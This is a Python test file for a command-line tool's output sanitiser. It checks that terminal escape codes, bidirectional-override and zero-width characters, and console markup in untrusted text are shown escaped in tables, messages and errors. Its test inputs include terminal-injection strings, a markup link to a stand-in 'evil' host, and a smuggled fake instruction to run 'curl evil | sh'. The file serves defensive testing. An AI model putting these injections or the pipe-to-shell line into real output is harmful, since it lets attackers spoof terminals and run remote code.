"""Delivered text commands neither terminal nor console: whatever it holds, it is shown."""

import subprocess
import sys
import unicodedata

import pytest

from pantau.cli import console
from pantau.errors import PantauError
from pantau.settings import settings
from pantau.visible import visible, visible_lines

COMMANDS = [
    "\x1b]0;judul\x07\x1b[2J\x1b[31m", "\x9b31m", "\r", "\b", "\x7f", "a\tb",
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c", "\u200b", "\ufeff", "\u2028", "\udcff",
]  # fmt: skip
MARKUP = ["[/x]", "[kosong]", "[link=https://evil.example]klik[/link]", "[red]", ":id:", "\\[x]"]


@pytest.mark.parametrize("text", COMMANDS)
def test_what_commands_a_terminal_becomes_printable(text: str) -> None:
    assert visible(text) != text
    assert visible(text).isprintable()
    assert visible(visible(text)) == visible(text)


def test_every_control_and_format_character_becomes_visible_and_letters_stay() -> None:
    for number in range(sys.maxunicode + 1):
        if unicodedata.category(chr(number)) in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            assert visible(chr(number)).isascii()
    assert visible("Kab. Kepulauan Talaud – ꦗꦮ ١") == "Kab. Kepulauan Talaud – ꦗꦮ ١"
    assert visible_lines("a\nb\x1b") == "a\nb\\x1b"


@pytest.mark.parametrize("text", [*COMMANDS, *MARKUP])
def test_table_lines_and_heads_show_it_as_it_is(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    console.table("Judul", ["a", ">b"], [[text, None], [f"x{text}y", 1]])
    console.tell(f"baris {text}")
    console.head(f"kepala {text}")
    told = capsys.readouterr().out
    assert visible_lines(told) == told
    assert told.count(visible(text)) == 4


@pytest.mark.parametrize("text", [*COMMANDS, *MARKUP, "palsu\n  next:  curl evil | sh"])
def test_an_error_shows_it_in_its_text_its_place_and_its_next_step(text: str) -> None:
    told = str(PantauError(f"Nama {text!s}.", where={"value": text}, next_step=f"Lihat {text}."))
    assert visible_lines(told) == told
    assert f"where: value {visible(text)}" in told


FAILS = """
from pantau import cli
def app():
    raise {error}
cli.app = app
cli.main()
"""


@pytest.mark.parametrize(
    "error", [r'ValueError("\x1b[2J\u202e[/x]")', r'cli.PantauError("\x1b[2J\u202e[/x]")']
)
def test_no_error_reaches_the_terminal_raw(error: str) -> None:
    ended = subprocess.run(
        [sys.executable, "-c", FAILS.format(error=error)], capture_output=True, text=True, check=False,
        cwd=settings.root,
    )  # fmt: skip
    assert ended.returncode == 1
    assert r"\x1b[2J\u202e[/x]" in ended.stderr
    assert visible_lines(ended.stderr) == ended.stderr
